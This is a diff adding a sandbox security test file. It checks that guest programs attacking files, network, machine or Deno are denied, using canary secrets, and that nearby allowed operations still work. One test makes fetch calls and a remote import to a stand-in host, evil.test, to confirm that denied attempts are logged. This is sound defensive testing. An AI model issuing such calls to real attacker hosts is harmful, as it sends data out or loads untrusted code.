@@ -1,0 +1,177 @@
+/**
+ * Programs that try to get out. Each attack is proved to be denied against something real that it would have reached, and the
+ * nearest thing that is allowed is proved to work, so that "denied" is not just "broken".
+ */
+
+import { once } from 'node:events'
+import { readFile } from 'node:fs/promises'
+import { connect } from 'node:net'
+import { describe, expect } from 'vitest'
+import type { GuestRecipe } from '../../src/sandbox/guest-process.js'
+import type { GuestRun } from '../../src/sandbox/index.js'
+import { verifies } from '../verifies.js'
+import { DENIED, FILES, MACHINE, NETWORK } from './attack-list.js'
+import { bareRecipe, runBare } from './bare-guest.js'
+import { type Canaries, setUpCanaries } from './canaries.js'
+import { THROUGH_DENO } from './deno-attacks.js'
+import { guestJob, sandboxTest } from './guest-job.js'
+
+verifies('sandbox:attacks-denied', 'sandbox:attempts-told', 'adr:no-permissions')
+
+const test = sandboxTest.extend<{ canaries: Canaries; recipe: GuestRecipe }>({
+  // biome-ignore lint/correctness/noEmptyPattern: the test runner reads what a fixture needs from this pattern
+  recipe: [async ({}, use) => use(await bareRecipe()), { scope: 'file' }],
+  canaries: [
+    // biome-ignore lint/correctness/noEmptyPattern: the test runner reads what a fixture needs from this pattern
+    async ({}, use) => {
+      await using canaries = await setUpCanaries()
+      await use(canaries)
+    },
+    { scope: 'file' },
+  ],
+})
+
+describe.each([
+  ['the file system', FILES],
+  ['the network', NETWORK],
+  ['the machine', MACHINE],
+  ['everything, through Deno', THROUGH_DENO],
+])('an attack on %s gets nothing', (_, attacks) => {
+  test.for([...attacks])('when $name', async ({ program }, { sandbox, canaries }) => {
+    const run = await sandbox.run(
+      guestJob(program, { params: pathsOf(canaries), budgets: { wallMs: 5_000 } }),
+    )
+
+    expect(run.ended, JSON.stringify(run)).toBe('threw')
+    expect(JSON.stringify({ ...run, attempts: [] })).not.toContain(canaries.secret)
+    await expectUntouched(canaries)
+  })
+})
+
+describe.each([
+  ['the file system', FILES],
+  ['the network', NETWORK],
+  ['everything, through Deno', THROUGH_DENO],
+])('the process alone, with nothing hidden, denies an attack on %s', (_, attacks) => {
+  test.for([...attacks])(
+    'when $name',
+    async ({ program, attempt, denied = DENIED }, { recipe, canaries }) => {
+      const run = await runBare(recipe, program, pathsOf(canaries))
+
+      expect(run.error, JSON.stringify(run)).toMatch(denied)
+      expect(run.attempts.map(({ kind }) => kind)).toEqual(
+        attempt === undefined || recipe.mkfifo === undefined
+          ? expect.anything()
+          : expect.arrayContaining([attempt]),
+      )
+      await expectUntouched(canaries)
+    },
+  )
+})
+
+describe('what is nearest to an attack and allowed works', () => {
+  test.for([
+    [
+      'node:path and node:buffer load',
+      `return (await import('node:path')).join('a', (await import('node:buffer')).Buffer.from('b').toString())`,
+      'a/b',
+    ],
+    ['a data: module loads', `return (await import('data:text/javascript,export default 42')).default`, 42],
+    [
+      'sqlite works in memory',
+      `const { DatabaseSync } = await import('node:sqlite'); return new DatabaseSync(':memory:').prepare('SELECT 6 * 7 AS n').get().n`,
+      42,
+    ],
+    ['a fresh function runs', `return new Function('return 6 * 7')()`, 42],
+    [
+      'WebAssembly compiles',
+      `return (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance instanceof WebAssembly.Instance`,
+      true,
+    ],
+    ['fetch reads data:', `return (await fetch('data:text/plain,hello')).text()`, 'hello'],
+    [
+      'a digest is computed',
+      `return Buffer.from(await crypto.subtle.digest('SHA-256', new Uint8Array())).toString('hex').slice(0, 8)`,
+      'e3b0c442',
+    ],
+    [
+      'streams and compression work',
+      `return new Response(new Blob(['hi']).stream().pipeThrough(new CompressionStream('gzip')).pipeThrough(new DecompressionStream('gzip'))).text()`,
+      'hi',
+    ],
+    [
+      'structuredClone and URL work',
+      `return structuredClone({ href: new URL('/b', 'http://a.test').href })`,
+      { href: 'http://a.test/b' },
+    ],
+    [
+      'an event emitter works',
+      `const { EventEmitter } = await import('node:events'); let n = 0; new EventEmitter().on('x', () => n++).emit('x'); return n`,
+      1,
+    ],
+  ] as const)('%s', async ([, program, result], { sandbox }) => {
+    const run = await sandbox.run(guestJob(program))
+
+    expect(run).toMatchObject({ ended: 'completed', result })
+  })
+
+  test('the canaries would have told: the test itself reaches them', async () => {
+    await using canaries = await setUpCanaries()
+    const socket = connect(canaries.port, '127.0.0.1')
+    await once(socket, 'connect')
+    socket.destroy()
+    await once(socket, 'close')
+
+    expect(await readFile(canaries.secretFile, 'utf8')).toBe(canaries.secret)
+    expect(process.env.UNDERSTUDY_CANARY).toBe(canaries.secret)
+    await expect.poll(() => canaries.arrivals()).toBe(1)
+  })
+})
+
+test('nothing outlives a run: what one program leaves, the next one does not find', async ({ sandbox }) => {
+  const leave = `globalThis.left = 1; Object.prototype.left = 1
+    const channel = new BroadcastChannel('left'); channel.postMessage('left')
+    try { sessionStorage.setItem('left', '1') } catch {}
+    try { localStorage.setItem('left', '1') } catch {}
+    try { await (await caches.open('left')).put('http://a.test/', new Response('1')) } catch {}
+    return 'left'`
+  const look = `const found = []
+    if ('left' in globalThis) found.push('global')
+    new BroadcastChannel('left').onmessage = () => found.push('channel')
+    try { if (sessionStorage.getItem('left')) found.push('session') } catch {}
+    try { if (localStorage.getItem('left')) found.push('local') } catch {}
+    try { if (await caches.has('left')) found.push('cache') } catch {}
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    return found`
+
+  const left = await sandbox.run(guestJob(leave))
+  const found = await sandbox.run(guestJob(look))
+
+  expect(left.result).toBe('left')
+  expect(found).toMatchObject({ ended: 'completed', result: [] })
+})
+
+test('accesses that were denied are told, with their targets, once each', async ({ sandbox }) => {
+  const run = await sandbox.run(
+    guestJob(`for (let i = 0; i < 50; i++) try { await fetch('http://evil.test:8443/') } catch {}
+      try { await import('https://evil.test/x.js') } catch {}
+      return 'done'`),
+  )
+
+  const expected = [
+    { kind: 'import', target: 'evil.test:443', allowed: false },
+    { kind: 'net', target: 'evil.test:8443', allowed: false },
+  ]
+  expect(run.result).toBe('done')
+  expect(run.attempts).toEqual(sandbox.layers.includes('audit') ? expect.arrayContaining(expected) : [])
+})
+
+async function expectUntouched(canaries: Canaries): Promise<void> {
+  expect(canaries.arrivals()).toBe(0)
+  expect(await canaries.files()).toEqual(['canary.sock', 'secret.txt'])
+  expect(await readFile(canaries.secretFile, 'utf8')).toBe(canaries.secret)
+}
+
+function pathsOf({ folder, secretFile, port, udpPort, socketPath }: Canaries): GuestRun['result'] {
+  return { folder, secretFile, port, udpPort, socketPath }
+}
